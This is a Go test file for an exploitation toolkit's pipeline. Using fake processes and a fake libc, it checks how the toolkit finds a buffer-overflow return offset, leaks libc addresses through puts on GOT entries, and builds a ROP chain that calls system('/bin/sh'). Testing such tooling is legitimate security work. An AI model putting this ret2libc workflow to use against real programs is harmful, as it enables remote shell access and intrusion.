package exploit

import (
	"bytes"
	"errors"
	"testing"

	"gitlab.com/stephen-fox/ropkit/memory"
)

func TestNewState_Context(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	if s.VulnFunction != DefaultVulnFunction {
		t.Fatalf("expected vuln function %q - got %q", DefaultVulnFunction, s.VulnFunction)
	}

	if s.Context.WordSize != 8 || s.Context.Bits != 64 {
		t.Fatalf("expected 8 byte words and 64 bits - got %d and %d",
			s.Context.WordSize, s.Context.Bits)
	}

	if s.Context.StackAlignment != 16 {
		t.Fatalf("expected stack alignment 16 - got %d", s.Context.StackAlignment)
	}

	if s.Context.Pattern.N != 8 {
		t.Fatalf("expected pattern subsequence length 8 - got %d", s.Context.Pattern.N)
	}

	_, known := s.ReturnAddressOffset()
	if known {
		t.Fatal("return address offset should be unknown")
	}

	_, err := s.Deliverer()
	if !errors.Is(err, ErrNoDeliverer) {
		t.Fatalf("expected ErrNoDeliverer - got %v", err)
	}
}

func TestNewState_NoBinary(t *testing.T) {
	_, err := NewState(StateConfig{})
	if err == nil {
		t.Fatal("expected an error")
	}
}

func TestNewState_NoTarget(t *testing.T) {
	s, err := NewState(StateConfig{
		BinaryPath: "/fake/vuln",
		OptBinary:  newFakeBinary(),
		OptLogger:  testLogger(),
	})
	if err != nil {
		t.Fatal(err)
	}

	s, err = Run(s, DiscoverOffset(DiscoverOffsetConfig{
		OptSpawner: &faultingSpawner{faultAt: 56},
	}))
	if err != nil {
		t.Fatal(err)
	}

	offset, _ := s.ReturnAddressOffset()
	if offset != 56 {
		t.Fatalf("expected offset 56 - got %d", offset)
	}

	err = s.Deliver([]byte("chain"))
	if !errors.Is(err, ErrNoTarget) {
		t.Fatalf("expected ErrNoTarget - got %v", err)
	}
}

func TestState_SetReturnAddressOffset_Once(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	err := s.SetReturnAddressOffset(72)
	if err != nil {
		t.Fatal(err)
	}

	err = s.SetReturnAddressOffset(80)
	if !errors.Is(err, ErrOffsetKnown) {
		t.Fatalf("expected ErrOffsetKnown - got %v", err)
	}

	offset, _ := s.ReturnAddressOffset()
	if offset != 72 {
		t.Fatalf("expected offset 72 - got %d", offset)
	}
}

func TestDiscoverOffset(t *testing.T) {
	for _, k := range []int{0, 16, 1023} {
		target := &fakeChannel{}
		s := newTestState(t, target)
		spawner := &faultingSpawner{faultAt: k}

		s, err := Run(s, DiscoverOffset(DiscoverOffsetConfig{
			OptSpawner:       spawner,
			OptPatternLength: 1032,
		}))
		if err != nil {
			t.Fatalf("k=%d: %s", k, err)
		}

		offset, known := s.ReturnAddressOffset()
		if !known || offset != k {
			t.Fatalf("expected offset %d - got %d (known: %t)", k, offset, known)
		}

		if !spawner.spawned[0].killed {
			t.Fatalf("k=%d: victim was not killed", k)
		}

		err = s.Deliver([]byte("CHAIN"))
		if err != nil {
			t.Fatalf("k=%d: %s", k, err)
		}

		exp := append(s.Context.Pattern.BytesOrExit(k), "CHAIN"...)
		if !bytes.Equal(target.written[0], exp) {
			t.Fatalf("k=%d: expected delivered payload %q - got %q", k, exp, target.written[0])
		}
	}
}

func TestDiscoverOffset_InstructionPointer(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	s, err := Run(s, DiscoverOffset(DiscoverOffsetConfig{
		OptSpawner: &faultingSpawner{faultAt: 40, usePC: true},
	}))
	if err != nil {
		t.Fatal(err)
	}

	offset, _ := s.ReturnAddressOffset()
	if offset != 40 {
		t.Fatalf("expected offset 40 - got %d", offset)
	}
}

func TestDiscoverOffset_NoCrash(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	_, err := Run(s, DiscoverOffset(DiscoverOffsetConfig{
		OptSpawner:       &faultingSpawner{faultAt: 100},
		OptPatternLength: 64,
	}))
	if !errors.Is(err, ErrNoCrash) {
		t.Fatalf("expected ErrNoCrash - got %v", err)
	}

	_, known := s.ReturnAddressOffset()
	if known {
		t.Fatal("offset should remain unknown")
	}

	_, err = s.Deliverer()
	if !errors.Is(err, ErrNoDeliverer) {
		t.Fatalf("expected ErrNoDeliverer - got %v", err)
	}
}

func TestDiscoverOffset_FaultNotInPattern(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	spawner := SpawnFunc(func(string) (CrashProcess, error) {
		return &foreignFaultProcess{faultingProcess: &faultingProcess{}}, nil
	})

	_, err := Run(s, DiscoverOffset(DiscoverOffsetConfig{
		OptSpawner: spawner,
	}))
	if !errors.Is(err, ErrFaultNotInPattern) {
		t.Fatalf("expected ErrFaultNotInPattern - got %v", err)
	}
}

// foreignFaultProcess faults on bytes that were never sent.
type foreignFaultProcess struct {
	*faultingProcess
}

func (o *foreignFaultProcess) WriteLine(p []byte) error {
	return o.faultingProcess.WriteLine(bytes.Repeat([]byte("A"), len(p)))
}

func TestDiscoverOffset_AlreadyKnown(t *testing.T) {
	target := &fakeChannel{}
	s := newTestState(t, target)

	err := s.SetReturnAddressOffset(24)
	if err != nil {
		t.Fatal(err)
	}

	spawner := SpawnFunc(func(string) (CrashProcess, error) {
		t.Fatal("victim should not be spawned when the offset is known")
		return nil, nil
	})

	s, err = Run(s, DiscoverOffset(DiscoverOffsetConfig{OptSpawner: spawner}))
	if err != nil {
		t.Fatal(err)
	}

	err = s.Deliver(nil)
	if err != nil {
		t.Fatal(err)
	}

	if len(target.written[0]) != 24 {
		t.Fatalf("expected 24 bytes of padding - got %d", len(target.written[0]))
	}
}

func TestLeakAddresses_NoDeliverer(t *testing.T) {
	target := &fakeChannel{}
	s := newTestState(t, target)

	_, err := Run(s, LeakPuts())
	if !errors.Is(err, ErrNoDeliverer) {
		t.Fatalf("expected ErrNoDeliverer - got %v", err)
	}

	if len(target.written) != 0 {
		t.Fatalf("nothing should be written - got %d writes", len(target.written))
	}
}

func TestLeakPuts(t *testing.T) {
	target := &fakeChannel{
		lines: [][]byte{
			leakLine(0x7f0000029dc0),
			leakLine(0x7f0000001000),
		},
	}

	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))

	s, err := Run(s, LeakPuts())
	if err != nil {
		t.Fatal(err)
	}

	start, _ := s.Leaks.Address("__libc_start_main")
	if start != 0x7f0000029dc0 {
		t.Fatalf("expected __libc_start_main at 0x7f0000029dc0 - got 0x%x", start)
	}

	puts, _ := s.Leaks.Address("puts")
	if puts != 0x7f0000001000 {
		t.Fatalf("expected puts at 0x7f0000001000 - got 0x%x", puts)
	}

	if target.cleaned != 1 {
		t.Fatalf("expected output to be cleaned once - got %d", target.cleaned)
	}

	words := chainWords(target.written[0])

	if !hasCall(words, testPuts, testGOTStart) {
		t.Fatalf("chain does not call puts on GOT[__libc_start_main]: %x", words)
	}

	if !hasCall(words, testPuts, testGOTPuts) {
		t.Fatalf("chain does not call puts on GOT[puts]: %x", words)
	}

	if words[len(words)-1] != testMain {
		t.Fatalf("chain should return to main - last word is 0x%x", words[len(words)-1])
	}

	mainOffset := len(target.written[0]) - 8
	if mainOffset%16 != 0 {
		t.Fatalf("call to main at chain offset %d is not aligned", mainOffset)
	}
}

func TestLeakAddresses_ShortLeak(t *testing.T) {
	target := &fakeChannel{
		lines: [][]byte{[]byte("\x10\x0e\xe5\xf7\xff\x7f\n")},
	}

	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))

	s, err := Run(s, LeakAddresses(LeakConfig{Symbols: []string{"puts"}}))
	if err != nil {
		t.Fatal(err)
	}

	puts, _ := s.Leaks.Address("puts")
	if puts != 0x7ffff7e50e10 {
		t.Fatalf("expected 0x7ffff7e50e10 - got 0x%x", puts)
	}
}

func TestLeakAddresses_EmptyLeak(t *testing.T) {
	target := &fakeChannel{
		lines: [][]byte{[]byte("\n")},
	}

	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))

	_, err := Run(s, LeakAddresses(LeakConfig{Symbols: []string{"puts"}}))
	if !errors.Is(err, memory.ErrEmptyLeak) {
		t.Fatalf("expected ErrEmptyLeak - got %v", err)
	}
}

func TestLeakAddresses_UnknownSymbol(t *testing.T) {
	target := &fakeChannel{}
	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))

	_, err := Run(s, LeakAddresses(LeakConfig{Symbols: []string{"printf"}}))
	if err == nil {
		t.Fatal("expected an error")
	}

	if len(target.written) != 0 {
		t.Fatal("no chain should be delivered")
	}
}

func TestLoadLibcAndCallSystem(t *testing.T) {
	target := &fakeChannel{}
	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))
	s.Leaks.Record("puts", 0x7f0000080e50)

	s, err := Run(s,
		LoadLibc(LoadLibcConfig{OptImage: newFakeLibc()}),
		CallSystem(CallSystemConfig{}))
	if err != nil {
		t.Fatal(err)
	}

	if s.Libc.Base() != 0x7f0000000000 {
		t.Fatalf("expected libc base 0x7f0000000000 - got 0x%x", s.Libc.Base())
	}

	words := chainWords(target.written[0])
	if !hasCall(words, 0x7f0000050d70, 0x7f00001d8698) {
		t.Fatalf("chain does not call system(\"/bin/sh\"): %x", words)
	}
}

func TestLoadLibc_MissingLeak(t *testing.T) {
	s := newTestState(t, &fakeChannel{})

	_, err := Run(s, LoadLibc(LoadLibcConfig{OptImage: newFakeLibc()}))
	if !errors.Is(err, ErrMissingLeak) {
		t.Fatalf("expected ErrMissingLeak - got %v", err)
	}
}

func TestCallSystem_NoLibc(t *testing.T) {
	target := &fakeChannel{}
	s := newTestState(t, target)
	s.SetDeliverer(DelivererFunc(target.WriteLine))

	_, err := Run(s, CallSystem(CallSystemConfig{}))
	if !errors.Is(err, ErrNoLibc) {
		t.Fatalf("expected ErrNoLibc - got %v", err)
	}
}

func TestEndToEnd(t *testing.T) {
	target := &fakeChannel{
		lines: [][]byte{
			leakLine(0x7f0000029dc0),
			leakLine(0x7f0000001000),
		},
	}

	s := newTestState(t, target)

	s, err := Run(s,
		DiscoverOffset(DiscoverOffsetConfig{
			OptSpawner: &faultingSpawner{faultAt: 72},
		}),
		LeakPuts())
	if err != nil {
		t.Fatal(err)
	}

	offset, _ := s.ReturnAddressOffset()
	if offset != 72 {
		t.Fatalf("expected offset 72 - got %d", offset)
	}

	puts, _ := s.Leaks.Address("puts")
	if puts != 0x7f0000001000 {
		t.Fatalf("expected puts at 0x7f0000001000 - got 0x%x", puts)
	}

	payload := target.written[0]
	if !bytes.Equal(payload[:72], s.Context.Pattern.BytesOrExit(72)) {
		t.Fatal("payload does not start with the overflow padding")
	}

	if !hasCall(chainWords(payload[72:]), testPuts, testGOTPuts) {
		t.Fatal("delivered chain does not call puts on GOT[puts]")
	}

	exp := []string{"discover return address offset", "leak addresses"}
	if len(s.Completed) != len(exp) || s.Completed[0] != exp[0] || s.Completed[1] != exp[1] {
		t.Fatalf("expected completed stages %q - got %q", exp, s.Completed)
	}
}
